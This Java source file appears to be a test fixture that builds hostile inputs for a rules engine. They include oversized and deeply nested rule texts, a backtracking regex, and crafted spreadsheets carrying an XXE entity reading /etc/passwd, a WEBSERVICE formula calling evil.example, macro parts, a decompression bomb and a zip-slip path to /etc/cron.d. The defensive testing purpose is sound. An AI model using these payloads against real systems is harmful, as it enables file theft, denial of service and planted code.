package dev.ordo.rules;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.function.UnaryOperator;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;
import org.apache.poi.hssf.usermodel.HSSFWorkbook;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Workbook;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;

/** Attacks too large or too binary for a line of YAML, by the name they have there. */
final class AttackFiles {
  private static final String HEADER = "package rules.audit;\nimport dev.ordo.audit.facts.*;\n";
  private static final String SHEET = "xl/worksheets/sheet1.xml";

  private AttackFiles() {}

  /** A rule text. */
  static String text(String build) {
    return switch (build) {
      case "deep-parentheses" -> when("LineFact( " + "(".repeat(200_000) + "qty > 1 )");
      case "deep-negation" -> when("LineFact( " + "!".repeat(200_000) + "gift )");
      case "long-name" -> HEADER + "rule \"" + "x".repeat(1_000) + "\" when";
      case "long-number" -> when("LineFact( qty > " + "9".repeat(100_000) + " )");
      case "long-pattern" -> when("LineFact( sku matches \"" + "a?".repeat(200) + "\" )");
      case "long-rule" ->
          when(
              IntStream.range(0, 10_000)
                  .mapToObj(i -> "\"" + i + "\"")
                  .collect(Collectors.joining(", ", "LineFact( sku in ( ", " ) )")));
      case "ten-megabytes" -> HEADER + "// honest\n".repeat(1_000_000);
      case "twice" -> when("LineFact()") + when("LineFact()").substring(HEADER.length());
      case "hundred-thousand-rules" ->
          HEADER
              + IntStream.range(0, 100_000)
                  .mapToObj(
                      i ->
                          "rule \"%d\" when LineFact() then insert( new Hold( \"X\", Owner.CLERK ) ); end\n"
                              .formatted(i))
                  .collect(Collectors.joining());
      default -> throw new IllegalArgumentException(build);
    };
  }

  private static String when(String condition) {
    return HEADER
        + "rule \"Evil\" when\n"
        + condition
        + "\nthen\ninsert( new Hold( \"X\", Owner.CLERK ) );\nend\n";
  }

  static String csv(int rows) {
    return """
    "RuleSet","rules.audit"
    "Import","dev.ordo.audit.facts.*"
    ,
    "RuleTable Evil",
    "CONDITION","ACTION"
    "LineFact",
    "qty > $param","insert( new Hold( ""$param"", Owner.CLERK ) );"
    "Quantity","Reason"
    """
        + "1,X\n".repeat(rows);
  }

  /** A spreadsheet. */
  static byte[] xlsx(String build) {
    return switch (build) {
      case "xlsx-formula" -> book("=");
      case "xlsx-external-link" ->
          with(
              "xl/worksheets/_rels/sheet1.xml.rels",
              "<Relationships><Relationship Id=\"r\" Target=\"file:///etc/passwd\""
                  + " TargetMode=\"External\"/></Relationships>");
      case "xlsx-entity" ->
          changed(
              s ->
                  s.replaceFirst(
                      "(<\\?xml[^>]*>)",
                      "$1<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>"));
      case "xlsx-macro" -> with("xl/vbaProject.bin", "Attribute VB_Name");
      case "xlsx-macro-sheet" -> with("xl/macrosheets/sheet1.xml", "<macrosheet/>");
      case "xlsx-bomb" ->
          changed(s -> s.replace("<sheetData>", " ".repeat(60_000_000) + "<sheetData>"));
      case "xlsx-many-parts" -> many();
      case "xlsx-climbing" -> with("../../etc/cron.d/evil", "* * * * * root id");
      case "xls-renamed" -> old();
      case "xlsx-utf16" -> utf16();
      default -> throw new IllegalArgumentException(build);
    };
  }

  private static byte[] old() {
    try (Workbook book = new HSSFWorkbook()) {
      book.createSheet().createRow(0).createCell(0).setCellValue("RuleSet");
      return bytes(book);
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  private static byte[] book(String formula) {
    try (Workbook book = new XSSFWorkbook()) {
      int at = 0;
      var sheet = book.createSheet();
      for (String line : csv(1).lines().toList()) {
        Row row = sheet.createRow(at++);
        row.createCell(0).setCellValue(line.split("\",?\"?")[0].replace("\"", ""));
      }
      if (formula.startsWith("=")) {
        sheet.getRow(8).createCell(0).setCellFormula("WEBSERVICE(\"http://evil.example\")");
      }
      return bytes(book);
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  private static byte[] bytes(Workbook book) throws IOException {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    book.write(bytes);
    return bytes.toByteArray();
  }

  private static byte[] with(String part, String content) {
    Map<String, byte[]> parts = parts();
    parts.put(part, content.getBytes(StandardCharsets.UTF_8));
    return zipped(parts);
  }

  private static byte[] changed(UnaryOperator<String> change) {
    Map<String, byte[]> parts = parts();
    parts.computeIfPresent(
        SHEET,
        (k, v) ->
            change.apply(new String(v, StandardCharsets.UTF_8)).getBytes(StandardCharsets.UTF_8));
    return zipped(parts);
  }

  private static byte[] utf16() {
    Map<String, byte[]> parts = parts();
    parts.put(SHEET, "<?xml version=\"1.0\"?><!DOCTYPE x []>".getBytes(StandardCharsets.UTF_16));
    return zipped(parts);
  }

  private static byte[] many() {
    Map<String, byte[]> parts = parts();
    for (int i = 2; i < 10_000; i++) {
      parts.put("xl/worksheets/sheet" + i + ".xml", new byte[0]);
    }
    return zipped(parts);
  }

  private static Map<String, byte[]> parts() {
    Map<String, byte[]> parts = new LinkedHashMap<>();
    try (ZipInputStream zip = new ZipInputStream(new ByteArrayInputStream(book("")))) {
      for (ZipEntry part = zip.getNextEntry(); part != null; part = zip.getNextEntry()) {
        parts.put(part.getName(), zip.readAllBytes());
      }
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    return parts;
  }

  private static byte[] zipped(Map<String, byte[]> parts) {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
      for (Map.Entry<String, byte[]> part : parts.entrySet()) {
        zip.putNextEntry(new ZipEntry(part.getKey()));
        zip.write(part.getValue());
      }
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    return bytes.toByteArray();
  }
}
